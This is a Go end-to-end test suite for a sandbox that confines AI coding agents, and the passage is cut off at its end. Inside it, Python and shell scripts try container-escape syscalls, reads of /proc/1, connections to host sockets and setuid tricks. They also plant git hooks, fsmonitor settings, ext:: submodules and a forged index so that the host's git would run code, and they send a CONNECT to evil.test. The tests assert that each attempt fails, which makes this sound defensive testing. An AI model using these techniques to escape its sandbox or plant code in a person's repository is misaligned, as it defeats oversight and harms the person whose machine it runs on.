package e2e

import (
	"bufio"
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"agentbox/internal/event"
	"agentbox/internal/modelserver"
)

// python runs a script inside, as the agent.
func (b *box) python(script string, args ...string) result {
	b.t.Helper()
	return b.agentbox(append([]string{"run", "shell", "-q", "--", "python3", "-c", script}, args...)...)
}

// findings reads lines of "name<TAB>what happened".
func (r result) findings() map[string]string {
	r.t.Helper()
	out := map[string]string{}
	for _, line := range strings.Split(strings.TrimSuffix(r.out, "\n"), "\n") {
		name, value, ok := strings.Cut(line, "\t")
		if !ok {
			r.t.Fatalf("not a finding: %q\nstdout:\n%s\nstderr:\n%s", line, r.out, r.err)
		}
		out[name] = value
	}
	return out
}

// kernelAttacks asks the kernel for everything that leads out of a container, one line each: the name, a tab, and
// "ok" where it succeeded or the name of the error.
const kernelAttacks = `
import ctypes, errno, fcntl, os, platform, pty, signal, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
x86 = platform.machine() == "x86_64"
nr = dict(unshare=272, clone=56, clone3=435, setns=308, mount=165, umount2=166, pivot_root=155, chroot=161, keyctl=250,
          add_key=248, ptrace=101, process_vm_readv=310, process_vm_writev=311, pidfd_open=434, pidfd_getfd=438, bpf=321,
          perf_event_open=298, io_uring_setup=425, userfaultfd=323, open_tree=428, fsopen=430, mount_setattr=442,
          open_by_handle_at=304, init_module=175, kcmp=312, socket=41, ioctl=16, personality=135, syslog=103)
if not x86:
    nr = dict(unshare=97, clone=220, clone3=435, setns=268, mount=40, umount2=39, pivot_root=41, chroot=51, keyctl=219,
          add_key=217, ptrace=117, process_vm_readv=270, process_vm_writev=271, pidfd_open=434, pidfd_getfd=438, bpf=280,
          perf_event_open=241, io_uring_setup=425, userfaultfd=282, open_tree=428, fsopen=430, mount_setattr=442,
          open_by_handle_at=265, init_module=105, kcmp=272, socket=198, ioctl=29, personality=92, syslog=116)

def say(name, what): print(name, what, sep="\t", flush=True)
def attempt(name, f):
    try:
        f(); say(name, "ok")
    except OSError as e:
        say(name, errno.errorcode.get(e.errno, str(e)))
def call(name, *args):
    n = libc.syscall(ctypes.c_long(nr[name]), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if n < 0: raise OSError(ctypes.get_errno(), name)
    return n
def sys(label, name, *args): attempt(label, lambda: call(name, *args))

for flag, name in [(0x10000000, "user"), (0x20000, "mount"), (0x20000000, "pid"), (0x40000000, "net"), (0x8000000, "ipc"),
                   (0x4000000, "uts"), (0x2000000, "cgroup"), (0x10020000, "user and mount")]:
    sys("unshare " + name, "unshare", flag)
    def child(flag=flag):
        pid = call("clone", flag | signal.SIGCHLD, 0, 0, 0, 0)
        if pid == 0: os._exit(0)
        os.waitpid(pid, 0)
    attempt("clone " + name, child)
sys("unshare user, high bit", "unshare", 0x10000000 | 1 << 32)
args = ctypes.create_string_buffer(struct.pack("Q" * 11, 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0))
sys("clone3", "clone3", args, 88)
b = ctypes.c_char_p
sys("mount", "mount", b(b"none"), b(b"/tmp"), b(b"tmpfs"), 0, 0)
sys("remount", "mount", b(b"none"), b(b"/"), b(b""), 32, 0)
sys("umount2", "umount2", b(b"/tmp"), 2)
sys("pivot_root", "pivot_root", b(b"/tmp"), b(b"/tmp"))
sys("chroot", "chroot", b(b"/tmp"))
sys("open_tree", "open_tree", -100, b(b"/"), 1)
sys("fsopen", "fsopen", b(b"tmpfs"), 0)
sys("mount_setattr", "mount_setattr", -100, b(b"/"), 0, 0, 0)
sys("keyctl", "keyctl", 0, -3, 1)
sys("add_key", "add_key", b(b"user"), b(b"a"), b(b"b"), 1, -3)
sys("bpf", "bpf", 0, 0, 0)
sys("perf_event_open", "perf_event_open", 0, 0, -1, -1, 0)
sys("io_uring_setup", "io_uring_setup", 8, ctypes.create_string_buffer(120))
sys("userfaultfd", "userfaultfd", 1)
sys("init_module", "init_module", 0, 0, 0)
sys("syslog", "syslog", 3, ctypes.create_string_buffer(64), 64)
def setns():
    fd = os.open("/proc/1/ns/net", os.O_RDONLY)
    call("setns", fd, 0)
attempt("setns", setns)
def own_setns():
    fd = os.open("/proc/self/ns/user", os.O_RDONLY)
    call("setns", fd, 0)
attempt("setns of its own", own_setns)

sys("ptrace attach", "ptrace", 16, 1, 0, 0)
sys("ptrace seize", "ptrace", 0x4206, 1, 0, 0)
sys("ptrace seize, high bit", "ptrace", 0x4206, 1 | 1 << 32, 0, 0)
buf = ctypes.create_string_buffer(8)
iov = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(buf), 8))
for where in (0x400000, 0x10000):
    remote = ctypes.create_string_buffer(struct.pack("QQ", where, 8))
    sys("process_vm_readv %x" % where, "process_vm_readv", 1, iov, 1, remote, 1, 0)
    sys("process_vm_readv %x, high bit" % where, "process_vm_readv", 1 | 1 << 32, iov, 1, remote, 1, 0)
    sys("process_vm_writev %x" % where, "process_vm_writev", 1, iov, 1, remote, 1, 0)
def getfd():
    p = os.pidfd_open(1)
    for fd in range(16): call("pidfd_getfd", p, fd, 0)
attempt("pidfd_getfd", getfd)
sys("kcmp", "kcmp", 1, os.getpid(), 2, 0, 0)
for f in ("mem", "environ", "maps", "auxv", "stack", "syscall", "io"):
    attempt("/proc/1/" + f, lambda: open("/proc/1/" + f, "rb").read(1))
attempt("/proc/1/fd", lambda: os.listdir("/proc/1/fd"))
attempt("/proc/1/fdinfo", lambda: os.listdir("/proc/1/fdinfo"))
attempt("/proc/1/map_files", lambda: os.listdir("/proc/1/map_files"))
for f in ("root", "cwd", "exe"): attempt("/proc/1/" + f, lambda: os.readlink("/proc/1/" + f))
attempt("/proc/1/root/", lambda: os.listdir("/proc/1/root/"))
for fd in range(16): attempt("/proc/1/fd/%d" % fd, lambda: os.open("/proc/1/fd/%d" % fd, os.O_RDWR))

def sock(family, kind, protocol=0): return lambda: socket.socket(family, kind, protocol)
attempt("AF_PACKET", sock(17, socket.SOCK_RAW))
attempt("AF_VSOCK", sock(40, socket.SOCK_STREAM))
attempt("AF_NETLINK audit", sock(16, socket.SOCK_RAW, 9))
attempt("AF_ALG", sock(38, socket.SOCK_SEQPACKET))
attempt("AF_BLUETOOTH", sock(31, socket.SOCK_RAW))
attempt("raw socket", sock(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("raw socket 6", sock(socket.AF_INET6, socket.SOCK_RAW, 58))
sys("AF_VSOCK, high bit", "socket", 40 | 1 << 32, 1, 0)
master, slave = pty.openpty()
sys("TIOCSTI", "ioctl", slave, 0x5412, b(b"x"))
sys("TIOCSTI, high bit", "ioctl", slave, 0x5412 | 1 << 32, b(b"x"))

attempt("mknod", lambda: os.mknod("/tmp/null", 0o020666, os.makedev(1, 3)))
attempt("mknod disk", lambda: os.mknod("/tmp/disk", 0o060666, os.makedev(8, 0)))
attempt("setuid", lambda: os.setuid(0))
attempt("setgid", lambda: os.setgid(0))
attempt("setgroups", lambda: os.setgroups([0]))
attempt("sethostname", lambda: socket.sethostname("x"))
attempt("nice", lambda: os.setpriority(os.PRIO_PROCESS, 0, -20))
for d in ("/usr", "/etc", "/", "/usr/bin", "/run/agentbox", "/usr/local", "/dev", "/var", "/run", "/home", "/opt"):
    if os.path.isdir(d): attempt("write " + d, lambda: open(os.path.join(d, "x"), "w"))
for f in ("/etc/passwd", "/etc/resolv.conf", "/etc/hosts", "/run/agentbox/shim", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname",
          "/proc/sys/net/ipv4/ip_forward", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/proc/1/oom_score_adj", "/proc/1/attr/current"):
    if os.path.lexists(f): attempt("write " + f, lambda: open(f, "r+b", 0).write(b"1"))
for d in ("/usr/bin/env", "/etc/passwd", "/run/agentbox"):
    attempt("remove " + d, lambda: os.rename(d, d + ".old"))
def host_socket(kind):
    def f():
        s = socket.socket(socket.AF_UNIX, kind)
        s.connect("/run/agentbox/host.sock")
    return f
attempt("host.sock", host_socket(socket.SOCK_STREAM))
attempt("host.sock seqpacket", host_socket(socket.SOCK_SEQPACKET))
attempt("/etc/shadow", lambda: open("/etc/shadow"))
attempt("/dev/mem", lambda: open("/dev/mem"))
attempt("/dev/kmsg", lambda: open("/dev/kmsg"))
attempt("/proc/kcore", lambda: open("/proc/kcore", "rb").read(1))
attempt("/dev/fuse", lambda: open("/dev/fuse", "r+b", 0))
attempt("/dev/kvm", lambda: open("/dev/kvm", "r+b", 0))
attempt("/dev/net/tun", lambda: open("/dev/net/tun", "r+b", 0))
`

func TestTheKernelRefusesEveryWayOut(t *testing.T) {
	b := newBox(t)
	found := b.python(kernelAttacks).exits(0).findings()
	if len(found) < 100 {
		t.Errorf("only %d attacks were carried out", len(found))
	}
	for name, what := range found {
		if what == "ok" {
			t.Errorf("%s succeeded", name)
		}
	}
	for name, want := range map[string]string{
		"unshare user": "EPERM", "clone user": "EPERM", "clone net": "EPERM", "clone3": "ENOSYS", "mount": "EPERM", "keyctl": "EPERM",
		"setns of its own": "EPERM", "pidfd_getfd": "EPERM", "write /usr": "EROFS", "write /etc": "EROFS", "write /": "EROFS",
		"write /run/agentbox": "EROFS", "/etc/shadow": "ENOENT", "mknod": "EPERM", "/proc/1/mem": "EACCES", "/proc/1/environ": "EACCES",
	} {
		if found[name] != want {
			t.Errorf("%s gives %q, want %s", name, found[name], want)
		}
	}
}

// statusFacts prints what the kernel says of the agent.
const statusFacts = `
import os
for line in open("/proc/self/status"):
    key, _, value = line.partition(":")
    if key.startswith("Cap") or key in ("NoNewPrivs", "Seccomp", "Uid", "Gid", "Groups"): print(key, value.strip(), sep="\t")
print("routes", len(open("/proc/net/route").readlines()), sep="\t")
print("resolv", open("/etc/resolv.conf").read().split("\n")[0], sep="\t")
print("pid 1", open("/proc/1/comm").read().strip(), sep="\t")
listing = os.listdir("/proc/self/fd")
print("descriptors", " ".join(sorted(f for f in listing if os.path.lexists("/proc/self/fd/" + f))), sep="\t")
# of several mounts at one place the last is seen
top = list({f[4]: f for f in (l.split() for l in open("/proc/self/mountinfo"))}.values())
# the root itself is read-only; what crun masks in /proc and /sys holds no files; a writable bind keeps the host's flags
plain = [f for f in top if f[4] != "/" and not f[4].startswith(("/proc", "/sys", os.getcwd()))]
unsafe = [f[4] for f in plain if "nosuid" not in f[5].split(",")]
print("mounts with setuid", " ".join(unsafe), sep="\t")
devices = [f[4] for f in plain if "nodev" not in f[5].split(",") and not f[4].startswith("/dev")]
print("mounts with devices", " ".join(devices), sep="\t")
writable = [f[4] for f in top if "rw" in f[5].split(",") and not f[4].startswith(("/dev", "/proc"))]
print("writable", " ".join(sorted(writable)), sep="\t")
print("limits", " ".join(l.split("  ")[0] + "=" + l[26:].split()[0] for l in open("/proc/self/limits") if l.startswith(("Max core", "Max processes"))), sep="\t")
print("uid_map", " ".join(open("/proc/self/uid_map").read().split()), sep="\t")
`

func TestTheAgentHoldsNoPrivilege(t *testing.T) {
	b := newBox(t)
	found := b.python(statusFacts).exits(0).findings()
	uid, gid := strconv.Itoa(os.Getuid()), strconv.Itoa(os.Getgid())
	zero := strings.Repeat("0", 16)
	for name, want := range map[string]string{
		"CapInh": zero, "CapPrm": zero, "CapEff": zero, "CapBnd": zero, "CapAmb": zero, "NoNewPrivs": "1", "Seccomp": "2",
		"Uid": strings.Join([]string{uid, uid, uid, uid}, "\t"), "Gid": strings.Join([]string{gid, gid, gid, gid}, "\t"),
		"routes": "1", "resolv": "nameserver 127.0.0.1", "pid 1": "agentbox-shim", "descriptors": "0 1 2",
		"mounts with setuid": "", "mounts with devices": "",
	} {
		if found[name] != want {
			t.Errorf("%s is %q, want %q", name, found[name], want)
		}
	}
	var processes int
	if _, err := fmt.Sscanf(found["limits"], "Max core file size=0 Max processes=%d", &processes); err != nil || processes > 4096 {
		t.Errorf("the limits are %q", found["limits"])
	}
	home, err := os.UserHomeDir()
	must(t, err)
	for _, at := range strings.Fields(found["writable"]) {
		allowed := []string{b.repo, b.repo + "/.git", home, "/tmp", "/var/tmp", "/run", "/run/lock", "/run/user/" + uid}
		if !slices.Contains(allowed, at) {
			t.Errorf("%s is mounted writable", at)
		}
	}
}

// A setuid program gains nothing, whoever owns it.
func TestSetuidProgramsGainNothing(t *testing.T) {
	b := newBox(t)
	r := b.shell(`
for p in su sudo newuidmap pkexec mount passwd chsh; do
	f=$(command -v $p) || continue
	case $p in su) set -- -c id ;; sudo|pkexec) set -- id ;; *) set -- ;; esac
	"$f" "$@" </dev/null 2>&1 | grep -i 'uid=0' && echo "$p made root"
done
cp "$(command -v id)" /tmp/id && chmod 6755 /tmp/id && /tmp/id -u
grep -c . /proc/self/status >/dev/null && grep NoNewPrivs /proc/self/status`).exits(0)
	if want := fmt.Sprintf("%d\nNoNewPrivs:\t1\n", os.Getuid()); r.out != want {
		t.Errorf("got %q, want %q", r.out, want)
	}
}

// PID 1 is the boundary's hand inside. Signals that the agent can send it change nothing of the boundary: those that
// PID 1 does not answer are ignored, those that it does end the agent, never the boundary alone.
func TestSignalsToPID1DoNotOpenTheBoundary(t *testing.T) {
	b := newBox(t)
	r := b.shell(`for s in KILL STOP CONT SEGV ABRT ILL BUS FPE PIPE ALRM CHLD URG WINCH IO TRAP TTIN TTOU; do kill -$s 1; done
python3 -c '
import socket
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")
print(s.recv(4096).split(b" ")[1].decode())'
cat /proc/1/comm`).exits(0)
	r.prints("403\nagentbox-shim\n")
	for _, sig := range []string{"TERM", "INT", "HUP", "QUIT", "USR1", "USR2"} {
		r := b.shell("kill -" + sig + " 1; while :; do read x </proc/uptime; done")
		if r.code <= 128 {
			t.Errorf("SIG%s to PID 1: exit code %d, want that of a signal\n%s", sig, r.code, r.err)
		}
	}
}

// linkFacts prints every link of /usr that leads nowhere inside: the link, a tab, where it leads.
const linkFacts = `
import os
for d, dirs, files in os.walk("/usr"):
    for n in dirs + files:
        p = os.path.join(d, n)
        if os.path.islink(p) and not os.path.exists(p): print(os.fsencode(p).decode("utf-8", "replace"), os.path.realpath(p), sep="\t")
print("end\t")
`

// Every link of /usr that leads somewhere on this machine does so inside, but for what the audited list leaves out.
func TestLinksOfUsrResolve(t *testing.T) {
	b := newBox(t)
	left := leftOut(t)
	found := b.python(linkFacts).exits(0).findings()
	delete(found, "end")
	for link, target := range found {
		if _, err := os.Stat(link); err != nil {
			continue // it leads nowhere on this machine either, or to what the person may not see
		}
		if !slices.ContainsFunc(left, func(p string) bool { return below(p, target) }) {
			t.Errorf("%s leads to %s, which is not there inside and not left out on purpose", link, target)
		}
	}
	tools := b.shell("set -e; awk 'BEGIN { print 6*7 }'; perl -e 'print 6*7, \"\\n\"'; python3 -c 'print(6*7)'; openssl version >/dev/null && echo tls")
	tools.exits(0).prints("42\n42\n42\ntls\n")
}

// leftOut are the patterns of the audited list that lay nothing: what is skipped or never shown.
func leftOut(t *testing.T) []string {
	t.Helper()
	f, err := os.Open("../../internal/rootfs/data/etc.txt")
	must(t, err)
	defer func() { must(t, f.Close()) }()
	var out []string
	for s := bufio.NewScanner(f); s.Scan(); {
		if w := strings.Fields(s.Text()); len(w) > 1 && (w[0] == "skip" || w[0] == "never") {
			out = append(out, w[1])
		}
	}
	if len(out) < 50 {
		t.Fatalf("the audited list has %d lines that leave something out", len(out))
	}
	return out
}

// below reports whether file matches pattern or lies below what does.
func below(pattern, file string) bool {
	for at := file; at != "/" && at != "."; at = path.Dir(at) {
		if ok, err := path.Match(pattern, at); err == nil && ok {
			return true
		}
	}
	return false
}

// marker puts a file where the agent must not see it, with a content that is searched for.
func marker(t *testing.T, dir string) (file, content string) {
	t.Helper()
	must(t, os.MkdirAll(dir, 0o700))
	f, err := os.CreateTemp(dir, "abx-marker-*")
	must(t, err)
	t.Cleanup(func() { must(t, os.Remove(f.Name())) })
	content = "marker-content-" + filepath.Base(f.Name())
	_, err = f.WriteString(content)
	must(t, errors.Join(err, f.Close()))
	return f.Name(), content
}

func TestNothingOfThePersonIsInside(t *testing.T) {
	b := newBox(t)
	home, err := os.UserHomeDir()
	must(t, err)
	var files []string
	for _, dir := range []string{home, filepath.Join(home, ".config"), os.TempDir(), filepath.Dir(b.repo), "/var/tmp", "/dev/shm", os.Getenv("XDG_RUNTIME_DIR")} {
		file, _ := marker(t, dir)
		files = append(files, file)
	}
	must(t, os.Symlink(filepath.Dir(files[1]), filepath.Join(b.repo, "link")))
	r := b.python(`
import os, sys
for f in sys.argv[1:]: print("exists " + f, os.path.lexists(f), sep="\t")
home = os.environ["HOME"]
print("home", " ".join(sorted(os.path.relpath(os.path.join(d, n), home) for d, _, fs in os.walk(home) for n in fs)), sep="\t")
print("through the link", os.path.exists("link/" + os.path.basename(sys.argv[2])), sep="\t")
print("root", " ".join(sorted(os.listdir("/"))), sep="\t")
for d in ("/home", "/root", "/mnt", "/media", "/srv", "/boot", "/opt", "/var/lib", "/var/log"):
    try: print("in " + d, " ".join(sorted(os.listdir(d))), sep="\t")
    except OSError as e: print("in " + d, "", sep="\t")
found = []
for d, dirs, names in os.walk("/"):
    if d == "/": dirs[:] = [x for x in dirs if x not in ("proc", "sys", "usr")]
    found += [os.path.join(d, n) for n in names + dirs if "abx-marker" in n]
print("found", " ".join(found), sep="\t")
`, files...).exits(0)
	found := r.findings()
	for _, f := range files {
		if found["exists "+f] != "False" {
			t.Errorf("%s is there inside", f)
		}
	}
	own := "" // the path to the home directory is there, and nothing beside it
	if rest, ok := strings.CutPrefix(home, "/home/"); ok {
		own, _, _ = strings.Cut(rest, "/")
	}
	const trust = ".pki/nssdb/cert9.db .pki/nssdb/key4.db" // where browsers find the run's authority
	for name, want := range map[string]string{
		"home": ".gitconfig " + trust, "found": "", "through the link": "False", "in /home": own, "in /root": "", "in /mnt": "", "in /media": "",
		"in /srv": "", "in /boot": "", "in /var/log": "",
	} {
		if name == "home" && found[name] == trust {
			continue // a person without a git identity
		}
		if found[name] != want {
			t.Errorf("%s: %q, want %q", name, found[name], want)
		}
	}
}

func TestVariablesOfTheHostAreAbsent(t *testing.T) {
	b := newBox(t)
	for name, value := range map[string]string{
		"SECRET_OF_MINE": "s3cret-of-mine", "AWS_SECRET_ACCESS_KEY": "s3cret-of-mine", "NODE_OPTIONS": "--s3cret-of-mine", "LD_PRELOAD": "/s3cret-of-mine.so",
		"BASH_ENV": "/s3cret-of-mine", "PYTHONSTARTUP": "/s3cret-of-mine", "GIT_SSH_COMMAND": "s3cret-of-mine", "GIT_CONFIG_COUNT": "0",
		"SSH_ASKPASS": "/s3cret-of-mine", "NO_PROXY": "*", "no_proxy": "*", "HTTPS_PROXY": "http://s3cret-of-mine:1", "AGENTBOX_TOKEN": "s3cret-of-mine",
		"ANTHROPIC_API_KEY": "s3cret-of-mine", "DISPLAY": ":7", "XAUTHORITY": "/s3cret-of-mine", "LC_ALL": "C.UTF-8",
	} {
		b.setenv(name, value)
	}
	r := b.agentbox("run", "shell", "-q", "--", "sh", "-c", "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'").exits(0)
	if strings.Contains(r.out, "s3cret-of-mine") || strings.Contains(r.out, "DISPLAY=") {
		t.Errorf("a variable of the host is inside:\n%s", r.out)
	}
	for _, want := range []string{"LC_ALL=C.UTF-8\n", "NO_PROXY=localhost,127.0.0.1,::1\n", "HTTPS_PROXY=http://127.0.0.1:3128\n"} {
		if !strings.Contains(r.out, want) {
			t.Errorf("%q is not in the environment:\n%s", want, r.out)
		}
	}
	if strings.Contains(r.out, "XDG_RUNTIME_DIR="+os.Getenv("XDG_RUNTIME_DIR")+"\n") || strings.Contains(r.out, "DBUS_SESSION_BUS_ADDRESS") {
		t.Errorf("the way to the session is inside:\n%s", r.out)
	}
}

// serveUnix listens as a service of the host does, and reports whether anybody came.
func serveUnix(t *testing.T, name string) (called func() bool) {
	t.Helper()
	l, err := net.Listen("unix", name)
	must(t, err)
	came := make(chan struct{}, 16)
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			came <- struct{}{}
			_ = c.Close()
		}
	}()
	t.Cleanup(func() { _ = l.Close(); <-done })
	return func() bool { return len(came) > 0 }
}

// background starts a program of the host's, and ends it with the test.
func background(t *testing.T, name string, args ...string) {
	t.Helper()
	cmd := exec.Command(name, args...)
	must(t, cmd.Start())
	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
}

// appears waits until a socket answers.
func appears(t *testing.T, socket string) {
	t.Helper()
	for deadline := time.Now().Add(30 * time.Second); ; pause() {
		c, err := net.Dial("unix", socket)
		if err == nil {
			must(t, c.Close())
			return
		}
		if time.Now().After(deadline) {
			t.Fatal(err)
		}
	}
}

// A person's session has sockets that lead out of any container that can reach them: a real bus, a real Podman service,
// agents that hold keys, and abstract ones, which no mount can hide.
func TestSocketsOfTheHostAreAbsent(t *testing.T) {
	b := newBox(t)
	runtime := os.Getenv("XDG_RUNTIME_DIR")
	dir := filepath.Dir(b.repo)
	bus, podman := filepath.Join(runtime, "bus"), filepath.Join(runtime, "podman", "podman.sock")
	must(t, os.MkdirAll(filepath.Dir(podman), 0o700))
	if _, err := os.Stat(bus); errors.Is(err, fs.ErrNotExist) {
		background(t, "dbus-daemon", "--session", "--nofork", "--address=unix:path="+bus)
		t.Cleanup(func() { _ = os.Remove(bus) })
	}
	if _, err := os.Stat(podman); errors.Is(err, fs.ErrNotExist) {
		background(t, "podman", "system", "service", "--time", "0", "unix://"+podman)
		t.Cleanup(func() { _ = os.Remove(podman) })
	}
	appears(t, bus)
	appears(t, podman)
	agent := filepath.Join(dir, "ssh-agent.sock")
	b.setenv("SSH_AUTH_SOCK", agent)
	abstract := fmt.Sprintf("@abx-%d", os.Getpid())
	calls := []func() bool{serveUnix(t, agent), serveUnix(t, abstract), serveUnix(t, filepath.Join(runtime, "abx-agent"))}
	found := b.python(`
import os, socket, stat, sys
def attempt(name):
    s = socket.socket(socket.AF_UNIX)
    try: s.connect(name); return "connected"
    except OSError as e: return "refused"
for a in sys.argv[1:]: print(a, attempt("\0" + a[1:] if a[0] == "@" else a), sep="\t")
open_ones = []
for d, dirs, names in os.walk("/"):
    if d == "/": dirs[:] = [x for x in dirs if x != "proc"]
    for n in names:
        p = os.path.join(d, n)
        try:
            if p != "/run/agentbox/sign.sock" and stat.S_ISSOCK(os.lstat(p).st_mode) and attempt(p) == "connected": open_ones.append(p)
        except OSError: pass
print("sockets that answer", " ".join(open_ones), sep="\t")
print("abstract", " ".join(w for l in open("/proc/net/unix") for w in l.split() if w[0] == "@" and len(w) > 1), sep="\t")
`, bus, podman, agent, abstract, "/run/docker.sock", "/run/dbus/system_bus_socket").exits(0).findings()
	for name, what := range found {
		if what != "refused" && what != "" {
			t.Errorf("%s: %s", name, what)
		}
	}
	for i, called := range calls {
		if called() {
			t.Errorf("somebody came to socket %d", i)
		}
	}
}

// plant tries everything that makes the host's git run a program; %[1]s is the program.
const plant = `
p='%[1]s'
try() { "$@" >/dev/null 2>&1 && echo "done: $*"; return 0; }
say() { { printf "%%b" "$2" >"$1"; } 2>/dev/null && echo "written: $1"; return 0; }
try mv .git .git.old
try mv .git/hooks .git/h
try rm -rf .git/hooks
try rmdir .git/hooks
for h in pre-commit post-commit post-checkout pre-push post-merge fsmonitor-watchman reference-transaction post-index-change; do
	say .git/hooks/$h "#!/bin/sh\n$p\n"
done
try ln -sfn /tmp .git/hooks
try cp /bin/true .git/hooks/pre-commit
for k in core.fsmonitor core.hooksPath core.sshCommand core.pager core.editor diff.external gpg.program alias.status \
	credential.helper filter.evil.clean filter.evil.smudge merge.evil.driver include.path core.gitProxy core.askPass core.attributesFile core.worktree \
	uploadpack.packObjectsHook core.alternateRefsCommand remote.origin.uploadpack; do
	try git config "$k" "$p"
	try git config --worktree "$k" "$p"
	try git config --file .git/config "$k" "$p"
done
for f in .git/config .git/config.worktree; do
	say $f "[core]\n\tfsmonitor = $p\n\thooksPath = ../evilhooks\n"
	printf "[core]\n\tfsmonitor = $p\n" >/tmp/evil; try cp --remove-destination /tmp/evil $f; try mv -f /tmp/evil $f; try rm -f $f; try ln -sf /tmp/evil $f
done
say .git/commondir ../evilgit
try rm -f .git/commondir
mkdir -p evilhooks evilgit && printf "#!/bin/sh\n$p\n" >evilhooks/pre-commit && chmod +x evilhooks/pre-commit
printf "[core]\n\tfsmonitor = $p\n" >evilgit/config
printf '* filter=evil diff=evil merge=evil\n' >.gitattributes
mkdir -p .git/info && printf '* filter=evil diff=evil merge=evil\n' >.git/info/attributes
printf '[submodule "evil"]\n\tpath = evil\n\turl = ext::sh -c %%s\n\tupdate = !%%s\n' "$p" "$p" >.gitmodules
printf "fsmonitor = $p\n" >.git/config.lock 2>/dev/null; try mv .git/config.lock .git/config; rm -f .git/config.lock
git add -A >/dev/null 2>&1; git commit -qm inside
echo end`

// What an agent leaves in a repository must not run when the person works on with their own git.
func TestNothingPlantedRunsWithTheHostsGit(t *testing.T) {
	b := directBox(t)
	canary := filepath.Join(filepath.Dir(b.repo), "canary")
	before := b.read(".git/config")
	r := b.shell(fmt.Sprintf(plant, "touch "+canary)).exits(0)
	r.prints("end\n")
	if got := b.read(".git/config"); got != before {
		t.Errorf("the configuration has changed:\n%s", got)
	}
	if got := strings.TrimSpace(b.git("log", "-1", "--format=%s")); got != "inside" {
		t.Errorf("the last commit is %q", got)
	}
	b.write("README.md", "# changed\n")
	for _, args := range [][]string{
		{"status"}, {"diff"}, {"add", "-A"}, {"commit", "-q", "-m", "host"}, {"checkout", "-q", "-b", "other"}, {"checkout", "-q", "main"},
		{"log", "-p", "-2"}, {"stash", "list"}, {"merge", "-q", "other"}, {"branch", "-vv"}, {"gc", "-q"}, {"submodule", "status"}, {"worktree", "list"},
	} {
		cmd := exec.Command("git", args...)
		cmd.Dir, cmd.Env = b.repo, append(slices.Clone(b.env), "GIT_CONFIG_NOSYSTEM=1", "GIT_PAGER=cat")
		_ = cmd.Run() // a submodule that leads nowhere is an error; that nothing ran is what counts
		if _, err := os.Lstat(canary); err == nil {
			t.Fatalf("git %v ran what the agent planted", args)
		}
	}
	hooks, err := os.ReadDir(filepath.Join(b.repo, ".git", "hooks"))
	must(t, err)
	for _, h := range hooks {
		if !strings.HasSuffix(h.Name(), ".sample") {
			t.Errorf("there is a hook %s", h.Name())
		}
	}
}

// Hooks and programs that were there before are the person's: the agent can neither change nor replace them.
func TestHooksOfThePersonStay(t *testing.T) {
	b := directBox(t)
	canary := filepath.Join(filepath.Dir(b.repo), "canary")
	b.write(".husky/pre-commit", "#!/bin/sh\ntrue\n")
	b.write("tools/monitor.sh", "#!/bin/sh\ntrue\n")
	b.write(".git/hooks/post-commit", "#!/bin/sh\ntrue\n")
	for _, f := range []string{".husky/pre-commit", "tools/monitor.sh", ".git/hooks/post-commit"} {
		must(t, os.Chmod(filepath.Join(b.repo, f), 0o755))
	}
	b.git("config", "core.hooksPath", ".husky")
	b.git("config", "core.fsmonitor", filepath.Join(b.repo, "tools/monitor.sh"))
	b.shell(fmt.Sprintf(`evil='#!/bin/sh
touch %s'
for f in .husky/pre-commit .husky/post-checkout tools/monitor.sh .git/hooks/post-commit; do
	echo "$evil" >$f && echo "written $f"
	if [ -e $f ] && rm -f $f; then echo "removed $f"; fi
done 2>/dev/null
mv .husky h 2>/dev/null && echo moved; mv tools t 2>/dev/null && echo moved
echo end`, canary)).exits(0).prints("end\n")
	b.write("new", "x")
	b.git("add", "new")
	b.git("commit", "-q", "-m", "host")
	b.git("status")
	if _, err := os.Lstat(canary); err == nil {
		t.Error("the host's git ran what the agent wrote")
	}
}

// A repository of its own below the top can't be guarded before it exists: the person is told before they run git.
func TestANestedRepositoryIsTold(t *testing.T) {
	b := directBox(t)
	b.shell(`git init -q evil && cd evil && git -c user.name=x -c user.email=x@y commit -q --allow-empty -m x && git config core.fsmonitor 'touch /tmp/x' && cd .. && git add evil 2>/dev/null
ln -s /etc .git/evil-link; mkdir -p .git/rebase-merge; echo end`).exits(0).prints("end\n").says(
		"is a git repository of its own", "is in the index as a submodule", "is a link to /etc", "is an unfinished operation")
}

// In the direct mode the index is the agent's to write: one that has the person's `git checkout .` write a hook is put aside.
func TestAForgedIndexIsPutAside(t *testing.T) {
	b := directBox(t)
	canary := filepath.Join(filepath.Dir(b.repo), "canary")
	b.shell(`printf '#!/bin/sh\ntouch `+canary+`\n' | git hash-object -w --stdin >/tmp/blob; python3 - <<'END'
import hashlib, struct
name = b".git/hooks/post-checkout"
body = struct.pack(">4s12I", b"DIRC", 2, 1, 0, 0, 0, 0, 0, 0, 0o100755, 0, 0, 0) + bytes.fromhex(open("/tmp/blob").read()) + struct.pack(">H", len(name)) + name
body += bytes(8 - (62 + len(name)) % 8)
open(".git/index", "wb").write(body + hashlib.sha1(body).digest())
END
git ls-files`).exits(0).prints(".git/hooks/post-checkout\n").says("git's index named .git/hooks/post-checkout,", "a new one was made from the last commit")
	for _, args := range [][]string{{"checkout", "."}, {"checkout", "-q", "-b", "other"}} {
		b.git(args...)
	}
	if _, err := os.Lstat(canary); err == nil {
		t.Error("the host's git ran what the agent planted")
	}
	if status := b.git("status", "--porcelain"); status != "" {
		t.Errorf("status: %s", status)
	}
}

func TestGitWorksInside(t *testing.T) {
	b := directBox(t)
	b.write("staged", "host\n")
	b.git("add", "staged")
	r := b.shell(`set -e
git status --short
echo one >a; git add a staged; git commit -qm 'a commit'
git checkout -q -b topic; echo two >>a; git commit -qam 'on topic'
git checkout -q main; git merge -q topic; git tag v1
